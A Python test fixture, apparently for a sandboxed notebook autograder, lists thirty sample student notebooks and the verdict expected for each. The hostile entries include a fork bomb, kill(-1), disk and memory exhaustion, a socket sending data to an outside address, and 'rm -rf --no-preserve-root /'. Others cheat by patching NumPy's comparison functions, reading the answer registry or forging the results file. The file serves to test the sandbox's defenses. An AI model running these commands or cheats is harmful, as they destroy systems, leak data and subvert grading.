"""Thirty notebooks as students return them: ten are right, twenty wrong or hostile."""

START = "import numpy as np\nfrom dnn_lessons import sigmoid\nfrom dnn_lessons.classroom.exercises import check"
SWISH = "def swish_slope(Z):\n    A, _ = sigmoid(Z)\n    return A + Z * A * (1 - A)"
SOFTPLUS = "def softplus(Z):\n    return np.logaddexp(0, Z)"
STUB = "def softplus(Z):\n    return ..."
CHECKS = 'check("swish_slope", swish_slope)\ncheck("softplus", softplus)'
GOOD = [START, SWISH, SOFTPLUS, CHECKS]
RIGHT = ("right", "right")
FIRST = ("right", "not attempted")  # what comes before the last cell counts


def function(*lines):
    """A softplus of these lines."""
    return "\n    ".join(["def softplus(Z):", *lines])


FILLER = """for folder in ('/tmp', '/dev/shm', '/', '/room', '/dev', '/usr'):
    try:
        for k in range(300):
            open(f'{folder}/fill{k}', 'wb').write(bytes(10**6))
    except OSError:
        pass"""

# {student: (cells, verdict on swish_slope, verdict on softplus)}
NOTEBOOKS = {
    # right, however the notebook looks
    "plain": (GOOD, *RIGHT),
    "one cell": (["\n\n".join(GOOD)], *RIGHT),
    "moved cells": ([START, SOFTPLUS, "1 + 1", SWISH], *RIGHT),
    "copied cells": ([START, STUB, SWISH, SWISH, SOFTPLUS, STUB, CHECKS], *RIGHT),
    "deleted checks": ([START, SWISH, SOFTPLUS], *RIGHT),
    "a failing cell between": ([START, SWISH, "1 / 0", SOFTPLUS], *RIGHT),
    "a syntax error between": ([START, SWISH, "def f(:", SOFTPLUS], *RIGHT),
    "nbgrader's check": (
        [*GOOD[:3], 'assert check("softplus", softplus)', "x = 1"],
        *RIGHT,
    ),
    "prints": ([START, SWISH, function("print(Z)", "return np.logaddexp(0, Z)")], *RIGHT),
    "redefined": ([START, SWISH, "def softplus(Z):\n    return Z", SOFTPLUS], *RIGHT),
    # wrong
    "empty": ([], "not attempted", "not attempted"),
    "other name": ([START, SWISH, SOFTPLUS.replace("softplus", "soft_plus")], *FIRST),
    "syntax error": ([START, SWISH, "def softplus(Z)\n    return Z"], *FIRST),
    "object dtype": (
        [START, SWISH, function("return np.logaddexp(0, Z).astype(object)")],
        "right",
        "wrong",
    ),
    "naive": ([START, SWISH, function("return np.log(1 + np.exp(Z))")], "right", "wrong"),
    "patched NumPy": (
        [
            START,
            "np.allclose = np.array_equal = lambda *a, **k: True",
            SWISH,
            function("return Z"),
        ],
        "right",
        "wrong",
    ),
    "looks for answers": (
        [
            START,
            SWISH,
            "from dnn_lessons.classroom.exercises.registry import find\nsoftplus = find('softplus').truth",
            "from dnn_lessons.classroom.exercises import lesson_02\nsoftplus = lesson_02.EXERCISES[3].truth",
        ],
        *FIRST,
    ),
    # hostile
    "endless function": (
        [START, SWISH, function("while True:", "    pass")],
        "right",
        "no answer in time",
    ),
    "endless cell": ([START, SWISH, "while True:\n    pass"], *FIRST),
    "swallows interrupts": (
        [
            START,
            SWISH,
            "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        ],
        *FIRST,
    ),
    "uninterruptible function": (
        [START, SWISH, function("return sum(range(10**13))")],
        "right",
        "broke",
    ),
    "memory": (
        [START, SWISH, "hog = [np.ones(10**7) for _ in range(10**6)]", SOFTPLUS],
        *RIGHT,
    ),
    "os._exit": ([*GOOD, "import os\nos._exit(0)"], *RIGHT),
    "os._exit in a function": (
        [START, SWISH, function("import os", "os._exit(0)")],
        "right",
        "broke",
    ),
    "fork bomb": (
        [
            *GOOD,
            "import os, time\nfor _ in range(150):\n    if os.fork() == 0:\n        time.sleep(600)",
        ],
        *RIGHT,
    ),
    "kill(-1)": ([*GOOD, "import os\nos.kill(-1, 9)"], *RIGHT),
    "disk": ([*GOOD, FILLER], *RIGHT),
    "socket": (
        [*GOOD, "import socket\nsocket.create_connection(ADDRESS, 1).sendall(b'leaked')"],
        *RIGHT,
    ),
    "rm -rf": (
        [
            *GOOD,
            "import os, shutil\nfor root in ('/', '/tmp', *FOLDERS): shutil.rmtree(root, ignore_errors=True)\n"
            "os.system('rm -rf --no-preserve-root / 2>/dev/null')",
        ],
        *RIGHT,
    ),
    "forger": (
        [
            START,
            "swish_slope = softplus = lambda Z: Z",
            "with open('/answers.jsonl', 'ab') as file:\n"
            '    file.write(b\'["swish_slope", "right"]\\n["softplus", [{"outcome": "right"}]]\\n\\xff\\x00\\n\')\n'
            "    file.write(b'[[1], []]\\n{}\\n' + b'[' * 10**5 + b'\\n')",
        ],
        "wrong",
        "wrong",
    ),
}
